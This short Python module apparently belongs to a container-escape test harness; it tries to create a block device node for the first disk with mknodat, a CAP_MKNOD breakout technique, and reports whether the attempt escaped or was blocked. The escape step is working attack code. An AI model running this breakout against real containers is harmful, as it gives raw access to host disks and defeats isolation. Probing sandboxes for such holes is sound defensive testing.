"""Make a device node for the first disk.

origin: CAP_MKNOD breakouts of early containers
why: whoever can name a device can read the disk below the file system
control: needs root
"""

import stat


def attack(target):
    path = os.fsencode(f"{target['stage']}/disk")
    result, error = syscall(target, "mknodat", AT_FDCWD, path, stat.S_IFBLK | 0o600, os.makedev(8, 0))
    return escaped("a disk node was made") if result == 0 else blocked("mknodat", error)
